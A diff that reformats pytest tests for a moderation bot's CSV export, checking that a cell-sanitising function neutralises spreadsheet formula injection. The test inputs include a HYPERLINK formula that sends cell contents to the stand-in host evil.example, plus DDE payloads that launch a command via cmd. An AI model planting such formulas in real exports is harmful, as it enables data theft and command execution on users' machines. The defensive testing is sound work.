@@ -16,14 +16,47 @@ from tests.conftest import G1, DaemonFactory, settle
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Жалоба")'
 
 
-@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
-                                  "\t=1+1", "\r=1+1", "＝1+1", "-", "+", "=", "@"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        HYPERLINK,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|'/C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "＝1+1",
+        "-",
+        "+",
+        "=",
+        "@",
+    ],
+)
 def test_formula_starts_are_neutralised(text: str) -> None:
     assert safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", ["обычный текст", "", " =1+1", "'=1", "a=1", "-1", "-42", "+7", "0.5", "-3,5",
-                                   "1e5", 0, -5, 3.5, None, True])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "обычный текст",
+        "",
+        " =1+1",
+        "'=1",
+        "a=1",
+        "-1",
+        "-42",
+        "+7",
+        "0.5",
+        "-3,5",
+        "1e5",
+        0,
+        -5,
+        3.5,
+        None,
+        True,
+    ],
+)
 def test_other_cells_are_left_alone(value: object) -> None:
     assert safe_cell(value) == value
 
@@ -35,11 +68,16 @@ def test_writer_neutralises_every_cell() -> None:
     w.writerows([{"a": "=1+1", "b": "@x"}, {"a": "-1", "b": "+x"}])
     w.writerow({"a": "\tx", "b": "ok"})
     assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
-        ["a", "b"], ["'=1+1", "'@x"], ["-1", "'+x"], ["'\tx", "ok"]]
+        ["a", "b"],
+        ["'=1+1", "'@x"],
+        ["-1", "'+x"],
+        ["'\tx", "ok"],
+    ]
 
 
-async def test_exported_comment_cell_is_neutralised(vk_emu: VKEmulator, make_daemon: DaemonFactory, tmp_path: Path,
-                                                    capsys: pytest.CaptureFixture[str]) -> None:
+async def test_exported_comment_cell_is_neutralised(
+    vk_emu: VKEmulator, make_daemon: DaemonFactory, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """The comment comes in through the emulator, the daemon journals it, ``modbot decisions`` exports it."""
     db = tmp_path / "csv.db"
     daemon = await make_daemon(db=db)
